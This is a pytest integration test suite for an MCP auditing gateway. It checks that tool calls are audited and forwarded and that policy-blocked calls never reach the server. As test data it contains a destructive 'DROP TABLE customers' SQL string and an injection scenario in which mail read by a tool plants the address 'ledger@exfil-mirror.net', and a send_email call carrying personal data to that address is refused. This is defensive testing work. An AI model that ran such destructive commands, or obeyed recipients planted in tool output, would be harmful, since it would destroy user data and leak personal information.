"""The MCP gateway with real processes on both sides: a real MCP client session (the `mcp` SDK's
ClientSession) talks to `agentaudit mcp-proxy`, which starts a real MCP server
(tests/support/mcp_tool_server.py). Everything is forwarded; tool calls are audited; a refused
call never reaches the server, whose every received line is logged to prove it."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client
from mcp.client.streamable_http import streamable_http_client
from mcp.types import CreateMessageResult, TextContent

from agentaudit import AgentAudit
from tests.conftest import REPO_ROOT
from tests.support.live_server import free_port
from tests.support.otlp_receiver import otlp_receiver

TOOL_SERVER = str(REPO_ROOT / "tests" / "support" / "mcp_tool_server.py")
DROP = "DROP TABLE customers"


def proxy_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AGENTAUDIT_")}
    env["PYTHONPATH"] = os.pathsep.join([str(REPO_ROOT / "core"), str(REPO_ROOT)])
    env["MCP_TEST_LOG"] = str(tmp_path / "server-received.jsonl")
    env["AGENTAUDIT_SPOOL_DIR"] = str(tmp_path / "spool")
    env.update(extra)
    return env


def received(tmp_path: Path) -> list[dict[str, Any]]:
    path = tmp_path / "server-received.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


async def sampling(context: Any, params: Any) -> CreateMessageResult:
    return CreateMessageResult(
        role="assistant", content=TextContent(type="text", text="forty-two"), model="fake"
    )


@asynccontextmanager
async def through_proxy(
    tmp_path: Path, *args: str, env: dict[str, str] | None = None
) -> AsyncIterator[ClientSession]:
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "agentaudit", "mcp-proxy", *args, "--", sys.executable, TOOL_SERVER],
        env=env or proxy_env(tmp_path),
        cwd=str(tmp_path),
    )
    async with (
        stdio_client(params) as (read, write),
        ClientSession(
            read,
            write,
            sampling_callback=sampling,
            client_info={"name": "test-ide", "version": "1.0"},  # type: ignore[arg-type]
        ) as session,
    ):
        await session.initialize()
        yield session


def text(result: Any) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, TextContent))


async def test_stdio_forwards_everything_audits_calls_and_refuses_before_the_server(
    tmp_path: Path,
) -> None:
    db = tmp_path / "trail.db"
    progress: list[float] = []

    async def on_progress(done: float, total: float | None, message: str | None) -> None:
        progress.append(done)

    with otlp_receiver() as receiver:
        env = proxy_env(
            tmp_path,
            AGENTAUDIT_API_KEY="aa_live_must_not_leak",
            OTEL_SDK_DISABLED="false",
            OTEL_EXPORTER_OTLP_TRACES_ENDPOINT=receiver.traces_url,
            OTEL_BSP_SCHEDULE_DELAY="50",
        )
        async with through_proxy(tmp_path, "--db", str(db), "--otel", env=env) as session:
            tools = await session.list_tools()
            assert {t.name for t in tools.tools} == {
                "echo", "run_sql", "broken", "slow_count", "ask_model", "env_has", "nap",
                "read_inbox", "send_email",
            }  # fmt: skip
            assert text(await session.call_tool("echo", {"text": "hi"})) == "echo: hi"

            refused = await session.call_tool("run_sql", {"sql": DROP})
            assert refused.isError is True
            assert text(refused).startswith("Blocked by AgentAudit policy: risk critical")

            failed = await session.call_tool("broken", {})
            assert failed.isError is True and "disk on fire" in text(failed)

            counted = await session.call_tool("slow_count", {"n": 3}, progress_callback=on_progress)
            assert text(counted) == "counted to 3" and progress == [1, 2, 3]
            asked = await session.call_tool("ask_model", {"question": "6 x 7?"})
            assert text(asked) == "the model said: forty-two"  # a server->client request
            leak = await session.call_tool("env_has", {"name": "AGENTAUDIT_API_KEY"})
            assert text(leak) == "false"  # the audit's key stays with the gateway

            resources = await session.list_resources()
            assert [str(r.uri) for r in resources.resources] == ["notes://today"]
            notes = await session.read_resource("notes://today")
            assert notes.contents[0].text == "buy milk"  # type: ignore[union-attr]
            prompt = await session.get_prompt("greet", {"name": "Ada"})
            assert "Ada" in prompt.messages[0].content.text  # type: ignore[union-attr]
        spans = receiver.wait_for(lambda s: len(s) >= 6)

    # the server never received the refused call; it did receive the others
    calls = [m["params"] for m in received(tmp_path) if m.get("method") == "tools/call"]
    assert [c["name"] for c in calls] == ["echo", "broken", "slow_count", "ask_model", "env_has"]
    assert DROP not in (tmp_path / "server-received.jsonl").read_text()

    with AgentAudit(db_path=db) as audit:
        events = list(reversed(audit.list_events(limit=100).events))
    by_action = {e.action: e for e in events}
    assert by_action["run_sql"].decision == "block" and by_action["run_sql"].data == {"sql": DROP}
    assert "run_sql.result" not in by_action  # refused: nothing ran, nothing to record
    echo = by_action["echo"]
    assert echo.decision == "allow" and echo.agent_id == "test-ide"
    assert echo.context["mcp_server"] == "agentaudit-test-tools"
    assert echo.context["mcp_client"] == "test-ide" and echo.context["framework"] == "mcp"
    result = by_action["echo.result"]
    assert result.context["call_event_id"] == echo.id
    assert result.data["result"]["content"][0]["text"] == "echo: hi"
    assert by_action["broken.error"].data["error"].startswith("McpToolError: ")

    tool_spans = {s.attributes["gen_ai.tool.name"]: s for s in spans}
    assert tool_spans["run_sql"].attributes["agentaudit.enforced"] == "block"
    assert tool_spans["run_sql"].attributes["gen_ai.tool.type"] == "extension"
    assert tool_spans["echo"].attributes["agentaudit.decision"] == "allow"
    assert tool_spans["broken"].attributes["error.type"] == "tool_error"


async def test_a_recipient_an_mcp_tool_planted_is_refused_before_the_server(
    tmp_path: Path,
) -> None:
    """MCP tools are untrusted unless their server is listed trusted: the mail `read_inbox`
    returned plants an address, and the next call sending data to it never reaches the server."""
    db = tmp_path / "trail.db"
    async with through_proxy(tmp_path, "--db", str(db)) as session:
        await session.call_tool("read_inbox", {"folder": "inbox"})
        refused = await session.call_tool(
            "send_email", {"to": "ledger@exfil-mirror.net", "body": "Jane Roe, jane@example.com"}
        )
        assert refused.isError is True
        assert "`read_inbox`" in text(refused) and "not from the user" in text(refused)
        sent = await session.call_tool("send_email", {"to": "me@example.com", "body": "notes"})
        assert text(sent) == "sent to me@example.com"
    calls = [m["params"] for m in received(tmp_path) if m.get("method") == "tools/call"]
    assert [c["name"] for c in calls] == ["read_inbox", "send_email"]
    assert "exfil-mirror" not in json.dumps(calls[1])


async def test_fail_closed_when_the_audit_server_is_down(tmp_path: Path) -> None:
    env = proxy_env(tmp_path, AGENTAUDIT_API_KEY="aa_live_x")
    url = f"http://127.0.0.1:{free_port()}"
    async with through_proxy(tmp_path, "--url", url, env=env) as session:
        assert len((await session.list_tools()).tools) == 9  # forwarding needs no decision
        refused = await session.call_tool("echo", {"text": "hi"})
        assert refused.isError is True and "audit unavailable" in text(refused)
    assert not [m for m in received(tmp_path) if m.get("method") == "tools/call"]


def wait_for_port(port: int, process: subprocess.Popen[bytes], timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise AssertionError(f"the gateway exited: {process.stderr.read().decode()}")  # type: ignore[union-attr]
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.1)
    raise AssertionError("the gateway did not listen in time")


def _events_when_written(db: Path, action: str, timeout: float = 15.0) -> list[Any]:
    """The live gateway writes its trail in the background (batched, flushed within moments and
    at exit): read until the event is there, as an auditor reading the live file would."""
    deadline = time.monotonic() + timeout
    while True:
        with AgentAudit(db_path=db) as audit:
            events = audit.list_events(action=action).events
        if events or time.monotonic() > deadline:
            return events
        time.sleep(0.2)


@pytest.fixture
def http_gateway(tmp_path: Path):
    port = free_port()
    env = proxy_env(tmp_path, AGENTAUDIT_MCP_TOKEN="s3cret")
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "agentaudit",
            "mcp-proxy",
            "--listen",
            f"127.0.0.1:{port}",
            "--db",
            str(tmp_path / "trail.db"),
            "--",
            sys.executable,
            TOOL_SERVER,
        ],  # fmt: skip
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    try:
        wait_for_port(port, process)
        yield f"http://127.0.0.1:{port}/mcp"
    finally:
        process.terminate()
        process.wait(timeout=15)


async def test_streamable_http_as_the_client_side_and_as_the_upstream(
    http_gateway: str, tmp_path: Path
) -> None:
    assert httpx.post(http_gateway, json={}).status_code == 401  # no token, no tools
    headers = {"Authorization": "Bearer s3cret"}
    async with (
        httpx.AsyncClient(headers=headers, timeout=30) as http,
        streamable_http_client(http_gateway, http_client=http) as (read, write, _),
        ClientSession(read, write, sampling_callback=sampling) as session,
    ):
        await session.initialize()
        assert len((await session.list_tools()).tools) == 9
        assert text(await session.call_tool("echo", {"text": "over http"})) == "echo: over http"
        refused = await session.call_tool("run_sql", {"sql": DROP})
        assert refused.isError is True and "Blocked by AgentAudit policy" in text(refused)
        asked = await session.call_tool("ask_model", {"question": "?"})
        assert text(asked) == "the model said: forty-two"
    calls = [m["params"]["name"] for m in received(tmp_path) if m.get("method") == "tools/call"]
    assert calls == ["echo", "ask_model"]
    blocked = _events_when_written(tmp_path / "trail.db", "run_sql")
    assert blocked[0].context["mcp_transport"] == "streamable-http"

    # a stdio gateway in front of a server reached over HTTP (here: the HTTP gateway, which needs
    # its bearer token: --upstream-header)
    outer = tmp_path / "outer"
    outer.mkdir()
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "agentaudit", "mcp-proxy", "--db", str(outer / "trail.db"), "--name", "crm",
              "--upstream-url", http_gateway, "--upstream-header", "Authorization: Bearer s3cret"],
        env=proxy_env(outer),
    )  # fmt: skip
    async with (
        stdio_client(params) as (read, write),
        ClientSession(read, write) as session,
    ):
        await session.initialize()
        assert text(await session.call_tool("echo", {"text": "via http"})) == "echo: via http"
        refused = await session.call_tool("run_sql", {"sql": DROP})
        assert refused.isError is True and "Blocked by AgentAudit policy" in text(refused)
    calls = [m["params"]["name"] for m in received(tmp_path) if m.get("method") == "tools/call"]
    # the second DROP was refused by the outer gateway: neither the inner one nor the server saw it
    assert calls == ["echo", "ask_model", "echo"]
    with AgentAudit(db_path=outer / "trail.db") as audit:
        assert {e.context["mcp_server"] for e in audit.list_events().events} == {"crm"}


async def test_a_call_the_client_cancels_is_closed_in_the_trail(tmp_path: Path) -> None:
    """In process, with the SDK's own pieces on memory streams: the client cancels a call the
    server is running; the gateway forwards the cancellation and records the call as cancelled."""
    import anyio
    from mcp import types

    from agentaudit import AsyncAgentAudit
    from agentaudit_integrations.mcp_gateway import make_gateway_factory
    from tests.support.mcp_tool_server import server as tool_server

    def pipe() -> tuple[Any, Any]:
        return anyio.create_memory_object_stream[Any](16)

    (c2g, from_client), (g2c, to_client) = pipe(), pipe()
    (g2s, to_server), (s2g, from_server) = pipe(), pipe()
    async with AsyncAgentAudit(db_path=tmp_path / "trail.db") as audit:
        gateway = make_gateway_factory(audit)("memory")
        lowlevel = tool_server._mcp_server
        async with anyio.create_task_group() as tg:
            tg.start_soon(lowlevel.run, to_server, s2g, lowlevel.create_initialization_options())
            tg.start_soon(gateway.run, (from_client, g2c), (from_server, g2s))
            async with ClientSession(to_client, c2g) as session:
                await session.initialize()
                outcome: list[Any] = []

                async def nap() -> None:
                    try:
                        outcome.append(await session.call_tool("nap", {"seconds": 30}))
                    except Exception as exc:
                        outcome.append(exc)

                tg.start_soon(nap)
                with anyio.fail_after(10):
                    while not gateway._pending:  # audited, allowed, forwarded: running now
                        await anyio.sleep(0.01)
                [request_id] = gateway._pending
                cancel = types.CancelledNotification(
                    params=types.CancelledNotificationParams(requestId=request_id)
                )
                await session.send_notification(types.ClientNotification(cancel))
                with anyio.fail_after(10):
                    while not outcome:
                        await anyio.sleep(0.01)
            tg.cancel_scope.cancel()
        await audit.flush()  # the guard stores embedded events in the background
        events = (await audit.list_events(order="asc")).events
    assert "cancelled" in str(outcome[0]).lower()
    assert [e.action for e in events] == ["nap", "nap.error"]
    assert events[1].data["error"] == "McpProtocolError: cancelled by the client"
    assert events[1].context["call_event_id"] == events[0].id


def test_a_server_command_that_cannot_start_is_one_clear_line(tmp_path: Path) -> None:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "agentaudit",
            "mcp-proxy",
            "--db",
            str(tmp_path / "t.db"),
            "--",
            str(tmp_path / "no-such-server"),
        ],  # fmt: skip
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=proxy_env(tmp_path),
        timeout=60,
    )
    assert done.returncode == 2
    assert done.stderr.startswith("error: cannot start the MCP server: [Errno 2]")
    assert "Traceback" not in done.stderr
